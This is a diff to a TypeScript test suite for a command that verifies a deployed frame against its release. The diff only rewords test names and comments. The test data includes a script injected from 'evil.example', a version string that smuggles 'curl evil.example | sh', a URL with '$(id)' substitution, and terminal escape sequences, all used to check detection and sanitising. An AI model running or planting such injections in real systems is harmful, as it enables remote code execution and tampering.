@@ -15,7 +15,7 @@ import { CONFIGURATION, GIVEN, smallRelease } from './support/release.js';
 
 const NOTHING = { embedders: [], uploads: [] };
 
-/** Serves a frame, with a proxy before it that may change each answer. */
+/** Serves a frame behind a proxy that can change each answer. */
 const served = async (
   context: TestContext,
   tamper: (
@@ -27,7 +27,7 @@ const served = async (
   const origin = await serve(deploy(release, CONFIGURATION, 'v1'), 0);
   const proxy: Server = createServer((request, response) => {
     const accepted = String(request.headers['accept-encoding'] ?? 'identity');
-    // The small files come as they are from here: `get` undoes the encoding.
+    // `get` decodes the body, so the proxy sends it without an encoding.
     void get(
       new URL(request.url ?? '', origin.url),
       { 'Accept-Encoding': accepted },
@@ -71,7 +71,7 @@ const problems = async (
     ({ subject, problem }) => `${subject} ${problem}`,
   );
 
-test('a frame that is served as it was deployed is the same', async (context) => {
+test('a frame that is served as it was deployed has no differences', async (context) => {
   const report = await verify(await served(context), smallRelease(), GIVEN);
   assert.deepEqual(report.differences, []);
   assert.ok(report.ok);
@@ -86,7 +86,7 @@ test('a frame that is served as it was deployed is the same', async (context) =>
   assert.match(describe(report), /no differences: 4 files, 44 headers\n$/);
 });
 
-test('one byte of one file is told, with both hashes', async (context) => {
+test('one changed byte is reported with both hashes', async (context) => {
   const frame = await served(context, (path, answer) => {
     if (path.endsWith('vault.js')) answer.body = Buffer.concat([answer.body, Buffer.from(' ')]);
   });
@@ -98,7 +98,7 @@ test('one byte of one file is told, with both hashes', async (context) => {
   assert.match(describe(report), /expected sha384-.*\n {2}found {4}sha384-.*\n1 difference\n$/);
 });
 
-test('a page that was changed around its configuration is told', async (context) => {
+test('a changed document with the same configuration is reported', async (context) => {
   const frame = await served(context, (path, answer) => {
     if (path.endsWith('vault.html'))
       answer.body = Buffer.from(`${answer.body}<script src="https://evil.example"></script>`);
@@ -142,7 +142,7 @@ for (const [what, change, expected] of [
     /sets a cookie/,
   ],
 ] as const) {
-  test(`a header that ${what} is told`, async (context) => {
+  test(`a header that ${what} is reported`, async (context) => {
     const frame = await served(
       context,
       (path, { headers }) => void (path.endsWith('vault.html') && change(headers)),
@@ -153,7 +153,7 @@ for (const [what, change, expected] of [
   });
 }
 
-test('an embedder is refused by either of the two: the headers and the vault', async (context) => {
+test('an embedder needs both the headers and the vault’s configuration', async (context) => {
   const frame = await served(context, (path, { headers }) => {
     if (path.endsWith('field.html')) headers['X-Frame-Options'] = 'DENY';
   });
@@ -166,7 +166,7 @@ test('an embedder is refused by either of the two: the headers and the vault', a
   assert.ok(report.differences.some(({ problem }) => problem == 'has other embedders'));
 });
 
-test('another endpoint than was meant is told', async (context) => {
+test('an unexpected endpoint is reported', async (context) => {
   const found = await problems(await served(context), {
     ...NOTHING,
     api: 'https://other.example/graphql',
@@ -175,13 +175,13 @@ test('another endpoint than was meant is told', async (context) => {
   assert.deepEqual(found, ['vault.html has another API', 'vault.html has other upload origins']);
 });
 
-test('a frame of another release is to be compared by its own package', async (context) => {
+test('a frame of another release is left to the package of that release', async (context) => {
   const frame = await served(context, () => {}, smallRelease('9.9.9'));
   const [difference] = await problems(frame);
   assert.match(difference ?? '', /another release.*npx sordino@9\.9\.9 frame --verify http/);
 });
 
-test('a host that redirects, answers for what is not there, or does not compress is told', async (context) => {
+test('a host that redirects, answers for missing files or does not compress is reported', async (context) => {
   const redirected = await served(context, (path, answer) => {
     if (path.endsWith('field.html'))
       Object.assign(answer, { status: 308, headers: { Location: '/field' } });
@@ -206,7 +206,7 @@ test('a host that redirects, answers for what is not there, or does not compress
   ]);
 });
 
-test('what is no frame, and what is not there, says so', async (context) => {
+test('an address without a frame is reported', async (context) => {
   const other = await served(
     context,
     (_, answer) => (answer.body = Buffer.from('<!doctype html>hello')),
@@ -216,7 +216,7 @@ test('what is no frame, and what is not there, says so', async (context) => {
   assert.match(difference ?? '', /can’t be reached/);
 });
 
-test('headers are compared by what they mean', () => {
+test('headers are compared by their meaning', () => {
   const answer = (headers: [string, string][]) => ({
     status: 200,
     headers,
@@ -244,7 +244,7 @@ test('headers are compared by what they mean', () => {
       name,
     );
   const different: [string, string, string][] = [
-    // The first directive of a name is the one that counts.
+    // If a directive occurs twice, the first counts.
     ['Content-Security-Policy', 'script-src a', 'script-src b; script-src a'],
     ['Content-Type', 'text/javascript; charset=utf-8', 'text/plain; charset=utf-8'],
     ['Referrer-Policy', 'no-referrer', 'no-referrer, unsafe-url'],
@@ -253,7 +253,7 @@ test('headers are compared by what they mean', () => {
     assert.equal(headerProblems({ [name]: expected }, answer([[name, found]])).length, 1, name);
 });
 
-test('a command is suggested for a strict version alone', async (context) => {
+test('a command is suggested only for a strict version', async (context) => {
   for (const release of [
     '1.2',
     '9.9.9; curl evil.example | sh',
@@ -276,12 +276,12 @@ test('a command is suggested for a strict version alone', async (context) => {
     commandFor('9.9.9-rc.1', frame),
     'npx sordino@9.9.9-rc.1 frame --verify https://frame.example/v1/',
   );
-  // As `new URL` leaves it.
+  // `new URL` keeps these characters.
   const odd = new URL("https://frame.example/$(id)';x/");
   assert.equal(commandFor('9.9.9', odd), 'npx sordino@9.9.9 frame --verify URL');
 });
 
-test('what a host says moves no cursor and turns no text', async (context) => {
+test('texts of a host can’t move the cursor or change the direction of text', async (context) => {
   const evil = '\u001b[2Jok\u009b31m\u202eevil\u2028\u200b';
   const frame = await served(context, (path, answer) => {
     if (path.endsWith('vault.html')) answer.headers['X-Frame-Options'] = 'a\u009b31mb';
@@ -302,7 +302,7 @@ test('what a host says moves no cursor and turns no text', async (context) => {
   assert.equal(difference?.found, '[2Jok31mevil');
 });
 
-test('a host that drips bytes is waited for once, and not for each byte', async (context) => {
+test('a host that sends bytes slowly is subject to the total time limit', async (context) => {
   let drips = 0;
   const dripping = createServer((_, response) => {
     response.writeHead(200, { 'Content-Type': 'text/html' });
